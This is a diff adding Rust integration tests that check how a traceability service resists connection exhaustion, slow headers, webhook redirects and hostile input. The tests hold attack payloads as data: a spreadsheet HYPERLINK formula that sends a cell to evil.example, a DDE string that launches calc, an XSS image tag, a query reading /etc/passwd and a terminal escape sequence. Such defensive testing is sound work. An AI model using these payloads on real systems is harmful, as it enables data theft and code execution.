@@ -172,3 +172,368 @@ fn a_trillion_row_answer_streams_within_the_pool_and_ends_saying_it_was_cut() {
     assert!(up.running());
     ingest_takes_a_result(&up, "HARD-ROWS-1");
 }
+
+/// Opens `n` connections to `address` that never send a byte.
+fn silent_sockets(address: &str, n: usize) -> Vec<std::net::TcpStream> {
+    (0..n)
+        .map(|_| std::net::TcpStream::connect(address).unwrap())
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_hundred_silent_sockets_on_each_port_do_not_shut_out_a_real_client() {
+    let dir = tempfile::tempdir().unwrap();
+    let up = tokio::task::block_in_place(|| {
+        Up::start_configured(
+            &dir.path().join("spotcheck"),
+            "[limits]\nmax_connections = 64\nheader_timeout_secs = 3\n\n\
+             [sql]\nmax_connections = 64\n",
+            &[],
+        )
+    });
+    let http_address = up.url("").trim_start_matches("http://").to_owned();
+    let _http_silent = silent_sockets(&http_address, 100);
+    let _pg_silent = silent_sockets(&up.pg, 100);
+
+    // A real client on each port, still within the slots 100 silent sockets tried to take.
+    let started = Instant::now();
+    let client = pg_client(&up).await;
+    let rows = client.simple_query("SELECT 1 AS one").await.unwrap();
+    assert!(
+        rows.iter()
+            .any(|m| matches!(m, tokio_postgres::SimpleQueryMessage::Row(_)))
+    );
+    eprintln!("Postgres client served after {:?}", started.elapsed());
+    let started = Instant::now();
+    tokio::task::block_in_place(|| {
+        let response = sql(&up, "SELECT 1 AS one");
+        assert_eq!(response.status(), 200, "{}", response.text().unwrap());
+        ingest_takes_a_result(&up, "HARD-CONN-1");
+    });
+    eprintln!("HTTP client served after {:?}", started.elapsed());
+
+    // A request head trickled and never finished is closed at the header deadline.
+    tokio::task::block_in_place(|| {
+        use std::io::Write;
+        let mut trickle = std::net::TcpStream::connect(&http_address).unwrap();
+        trickle
+            .write_all(b"GET /v1/cases HTTP/1.1\r\nHost: x\r\n")
+            .unwrap();
+        trickle
+            .set_read_timeout(Some(Duration::from_secs(30)))
+            .unwrap();
+        let mut buffer = [0u8; 256];
+        let read = trickle.read(&mut buffer);
+        assert!(
+            matches!(read, Ok(0))
+                || matches!(&read, Ok(n) if buffer[..*n].starts_with(b"HTTP/1.1 408")),
+            "the trickling connection was not closed: {read:?}"
+        );
+    });
+}
+
+#[test]
+fn names_that_spreadsheets_would_run_leave_the_exports_as_text() {
+    use support::flows::{days_ago, uscc};
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("spotcheck");
+    let up = Up::start(&data);
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A2,"click")"#;
+    let command = "-2+3+cmd|' /C calc'!A0";
+    let shipment = serde_json::json!({
+        "shipment_id": "S-FORMULA-1", "category": "e_bike",
+        "product": {"producer_name": "津电动车制造有限公司", "model": "TDR-9", "batch": "B-F1"},
+        "from": {"uscc": uscc("120116", 1), "name": formula},
+        "to": {"uscc": uscc("120101", 2), "name": command},
+        "quantity": 5, "unit": "pcs", "shipped_on": days_ago(30)
+    });
+    let response = http()
+        .post(up.url("/v1/shipments"))
+        .bearer_auth(up.token("ledger"))
+        .json(&shipment)
+        .send()
+        .unwrap();
+    assert_eq!(response.status(), 202);
+    let started = Instant::now();
+    while sql(&up, "SELECT count(*) AS n FROM shipments")
+        .json::<serde_json::Value>()
+        .unwrap()[0]["n"]
+        != 1
+    {
+        assert!(
+            started.elapsed() < Duration::from_secs(60),
+            "the shipment in the lake"
+        );
+        std::thread::sleep(Duration::from_millis(300));
+    }
+    let batch = "津电动车制造有限公司/TDR-9/B-F1";
+    let export = |raw: bool| {
+        let mut command = std::process::Command::new(support::BIN);
+        command.args(["trace-export", "--data-dir", data.to_str().unwrap()]);
+        command.args(["--batch", batch, "--format", "csv"]);
+        if raw {
+            command.arg("--raw");
+        }
+        let output = command.output().unwrap();
+        assert!(output.status.success(), "{output:?}");
+        let mut reader = csv::Reader::from_reader(output.stdout.as_slice());
+        let headers = reader.headers().unwrap().clone();
+        let row = reader.records().next().unwrap().unwrap();
+        let cell = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].to_owned();
+        (cell("from_name"), cell("to_name"))
+    };
+    assert_eq!(
+        export(false),
+        (format!("'{formula}"), format!("'{command}"))
+    );
+    assert_eq!(export(true), (formula.to_owned(), command.to_owned()));
+    let body = http()
+        .get(up.url(&format!("/v1/trace-export?batch={batch}&format=csv")))
+        .bearer_auth(up.token("admin"))
+        .send()
+        .unwrap()
+        .text()
+        .unwrap();
+    assert!(
+        body.contains(&format!("\"'{}\"", formula.replace('"', "\"\""))),
+        "{body}"
+    );
+    assert!(
+        !body.contains(&format!(",\"{}", formula.replace('"', "\"\""))),
+        "{body}"
+    );
+
+    // The quarterly report: its CSVs and its Markdown carry the names as text.
+    let mut result = support::flows::final_result("HARD-FORMULA-1", "fail");
+    result["items"] = serde_json::json!([
+        {"name": formula, "verdict": "fail"},
+        {"name": "<img src=x onerror=alert(1)>", "verdict": "fail"}
+    ]);
+    let response = http()
+        .post(up.url("/v1/results"))
+        .bearer_auth(up.token("lab"))
+        .json(&result)
+        .send()
+        .unwrap();
+    assert_eq!(response.status(), 202, "{}", response.text().unwrap());
+    let started = Instant::now();
+    while sql(&up, "SELECT count(*) AS n FROM result_items")
+        .json::<serde_json::Value>()
+        .unwrap()[0]["n"]
+        != 2
+    {
+        assert!(
+            started.elapsed() < Duration::from_secs(60),
+            "the items in the lake"
+        );
+        std::thread::sleep(Duration::from_millis(300));
+    }
+    let sampled =
+        chrono::NaiveDate::parse_from_str(result["sampling"]["date"].as_str().unwrap(), "%Y-%m-%d")
+            .unwrap();
+    use chrono::Datelike;
+    let quarter = format!("{}Q{}", sampled.year(), (sampled.month() - 1) / 3 + 1);
+    let out = dir.path().join("report");
+    let output = std::process::Command::new(support::BIN)
+        .args([
+            "report",
+            "--data-dir",
+            data.to_str().unwrap(),
+            "--quarter",
+            &quarter,
+        ])
+        .args(["--out", out.to_str().unwrap()])
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{output:?}");
+    let markdown = std::fs::read_to_string(out.join("report.md")).unwrap();
+    assert!(markdown.contains("&lt;img src=x"), "{markdown}");
+    assert!(!markdown.contains("<img"), "{markdown}");
+    let csvs: String = std::fs::read_dir(&out)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .filter(|p| p.extension().is_some_and(|e| e == "csv"))
+        .map(|p| std::fs::read_to_string(p).unwrap())
+        .collect();
+    assert!(csvs.contains("\"'=HYPERLINK("), "{csvs}");
+    assert!(
+        !csvs.contains(",\"=HYPERLINK(") && !csvs.contains("\n\"=HYPERLINK("),
+        "{csvs}"
+    );
+}
+
+#[test]
+fn a_stage_that_stops_takes_the_process_down_with_its_reason() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("spotcheck");
+    let mut up = Up::start(&data);
+    ingest_takes_a_result(&up, "HARD-STOP-1");
+    let manifests = data.join("lake").join("_manifests");
+    let started = Instant::now();
+    while std::fs::read_dir(&manifests).map_or(0, |d| d.count()) == 0 {
+        assert!(
+            started.elapsed() < Duration::from_secs(60),
+            "the lake wrote nothing"
+        );
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    // Another writer (a second `up` on the same lake, say) moves every partition on: the lake
+    // stage must stop rather than write over it.
+    for entry in std::fs::read_dir(&manifests).unwrap() {
+        let path = entry.unwrap().path();
+        let mut manifest: serde_json::Value =
+            serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+        manifest["next_offset"] =
+            serde_json::json!(manifest["next_offset"].as_i64().unwrap() + 1000);
+        std::fs::write(&path, manifest.to_string()).unwrap();
+    }
+    ingest_takes_a_result(&up, "HARD-STOP-2");
+    let status = up
+        .exit_within(Duration::from_secs(90))
+        .unwrap_or_else(|| panic!("the process kept running:\n{}", up.log_text()));
+    assert!(!status.success(), "{status}");
+    let log = up.log_text();
+    assert!(log.contains("lake stopped"), "{log}");
+    assert!(log.contains("another lake writer"), "{log}");
+}
+
+#[test]
+fn webhooks_do_not_follow_redirects_and_small_edges_answer_as_the_contract_says() {
+    use support::flows::final_result;
+    let runtime = tokio::runtime::Runtime::new().unwrap();
+    let elsewhere_hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let hook_hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let elsewhere = runtime
+        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
+        .unwrap();
+    let elsewhere_address = elsewhere.local_addr().unwrap();
+    let hits = elsewhere_hits.clone();
+    runtime.spawn(async move {
+        let app = axum::Router::new().fallback(move || {
+            hits.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            async { "stolen" }
+        });
+        axum::serve(elsewhere, app).await.unwrap();
+    });
+    let hook = runtime
+        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
+        .unwrap();
+    let hook_port = hook.local_addr().unwrap().port();
+    let hits = hook_hits.clone();
+    runtime.spawn(async move {
+        let app = axum::Router::new().fallback(move || {
+            hits.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            async move {
+                (
+                    axum::http::StatusCode::FOUND,
+                    [("location", format!("http://{elsewhere_address}/stolen"))],
+                )
+            }
+        });
+        axum::serve(hook, app).await.unwrap();
+    });
+
+    let dir = tempfile::tempdir().unwrap();
+    let up = Up::start_configured(
+        &dir.path().join("spotcheck"),
+        &format!(
+            "[traceback.periods]\nobjection_days = 0\n\n[[credit.webhook]]\n\
+             url = \"http://127.0.0.1:{hook_port}/hook\"\nsecret = \"s\"\n"
+        ),
+        &[],
+    );
+    let response = http()
+        .post(up.url("/v1/results"))
+        .bearer_auth(up.token("lab"))
+        .json(&final_result("HARD-HOOK-1", "fail"))
+        .send()
+        .unwrap();
+    assert_eq!(response.status(), 202);
+    let started = Instant::now();
+    while hook_hits.load(std::sync::atomic::Ordering::SeqCst) < 2 {
+        assert!(
+            started.elapsed() < Duration::from_secs(90),
+            "no retried delivery"
+        );
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    assert_eq!(
+        elsewhere_hits.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "the signed disclosure followed the redirect"
+    );
+    assert!(up.log_text().contains("redirects are not followed"));
+
+    // A bad query string is the API's JSON error, not plain text.
+    let response = http()
+        .get(up.url("/v1/disclosures?limit=many"))
+        .bearer_auth(up.token("feed"))
+        .send()
+        .unwrap();
+    assert_eq!(response.status(), 400);
+    assert!(
+        response.headers()["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("application/json")
+    );
+    assert!(response.json::<serde_json::Value>().unwrap()["error"].is_string());
+    // File paths as tables are refused as the README says: 403.
+    let response = sql(&up, "SELECT * FROM '/etc/passwd'");
+    assert_eq!(response.status(), 403);
+    // Absurd numbers and dates are refused with the field named.
+    let mut shipment = serde_json::json!({
+        "shipment_id": "S-BIG", "category": "e_bike",
+        "product": {"producer_name": "津电动车制造有限公司", "model": "TDR-9", "batch": "B1"},
+        "from": {"uscc": support::flows::uscc("120116", 1), "name": "甲"},
+        "to": {"uscc": support::flows::uscc("120101", 2), "name": "乙"},
+        "quantity": 12, "unit": "pcs", "shipped_on": support::flows::days_ago(3)
+    });
+    for (field, absurd) in [
+        ("quantity", serde_json::json!(1.2e59)),
+        ("shipped_on", serde_json::json!("0000-01-01")),
+    ] {
+        let mut refused = shipment.clone();
+        refused[field] = absurd;
+        let response = http()
+            .post(up.url("/v1/shipments"))
+            .bearer_auth(up.token("ledger"))
+            .json(&refused)
+            .send()
+            .unwrap();
+        assert_eq!(response.status(), 422);
+        let body: serde_json::Value = response.json().unwrap();
+        assert_eq!(body["errors"][0]["field"], field, "{body}");
+    }
+    shipment["shipment_id"] = serde_json::json!("S-FINE");
+    let response = http()
+        .post(up.url("/v1/shipments"))
+        .bearer_auth(up.token("ledger"))
+        .json(&shipment)
+        .send()
+        .unwrap();
+    assert_eq!(response.status(), 202);
+}
+
+#[test]
+fn the_sql_table_escapes_control_characters() {
+    let dir = tempfile::tempdir().unwrap();
+    let output = std::process::Command::new(support::BIN)
+        .args([
+            "sql",
+            "--data-dir",
+            dir.path().to_str().unwrap(),
+            "--format",
+            "table",
+        ])
+        .arg("SELECT chr(27) || ']0;owned' || chr(7) || '燃气灶' AS name")
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{output:?}");
+    let table = String::from_utf8(output.stdout).unwrap();
+    assert!(
+        !table.contains('\u{1b}') && !table.contains('\u{7}'),
+        "{table:?}"
+    );
+    assert!(table.contains("\\u{1b}]0;owned\\u{7}燃气灶"), "{table}");
+}
